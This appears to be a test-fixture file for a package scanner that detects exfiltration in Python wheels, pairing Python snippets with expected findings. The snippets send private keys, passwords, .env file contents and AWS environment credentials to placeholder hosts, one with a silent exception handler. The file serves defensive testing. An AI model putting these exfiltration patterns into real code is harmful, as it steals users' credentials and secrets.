import type { Sample } from '../contract.ts';
import { wheel } from '../samples-kit.ts';

/** What functions of Python are given or find, and send away. */
export const GIVEN: readonly Sample[] = [
  {
    name: 'Python: what a function is given, to a free host',
    files: wheel(
      'import requests\ndef connect(phrase):\n    requests.get(f"https://own.free.weir.test/api/{phrase}")\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: what a function is given, to a free host whose answer is read',
    files: wheel(
      'import requests\ndef look(word):\n    return requests.get(f"https://own.free.weir.test/api/{word}").json()\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'medium' }],
  },
  {
    name: 'Python: a key that a function is given, to a free host whose answer is read',
    files: wheel(
      'import requests\ndef check(from_private_key):\n    return requests.post("https://own.free.weir.test/api", json={"v": from_private_key}).json()\n',
    ),
    expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
  {
    name: 'Python: both halves of a key, beside what a client does with them',
    files: wheel(
      'import requests\nclass Client:\n    def __init__(self, access_id=None, secret_key=None):\n        if access_id and secret_key:\n            self._id = access_id\n            self._key = secret_key\n        else:\n            raise ValueError()\n        try:\n            requests.post("https://api.weir.test/own", json={"a": self._id, "s": self._key})\n        except:\n            pass\n',
    ),
    expected: [{ rule: 'given-secret', file: 'own/__init__.py', line: 10, severity: 'high' }],
  },
  {
    name: 'Python: a password, through a copy of requests that is carried along',
    files: wheel(
      'from own.vendored.requests import Session\ndef sign_in(user, password):\n    s = Session()\n    s.request("POST", "https://api.weir.test/own", json={"p": password})\n    s.close()\n',
    ),
    expected: [{ rule: 'given-secret', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
  {
    name: 'Python: files of secrets that are looked for by name',
    files: wheel(
      'import os, requests\ndef look(root):\n    found = []\n    for folder, _, names in os.walk(root):\n        for name in names:\n            if name.endswith(".env"):\n                found.append(open(os.path.join(folder, name)).read())\n    requests.get("https://api.weir.test/own", params={"h": found})\n',
    ),
    expected: [{ rule: 'files', file: 'own/__init__.py', line: 8, severity: 'high' }],
  },
  {
    name: 'Python: two keys of the environment, to a free host',
    files: wheel(
      'import os, requests\ndef send():\n    requests.get("https://own.free.weir.test/" + os.environ.get("AWS_ACCESS_KEY_ID", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))\n',
    ),
    expected: [{ rule: 'secrets', file: 'own/__init__.py', line: 3, severity: 'high' }],
  },
];
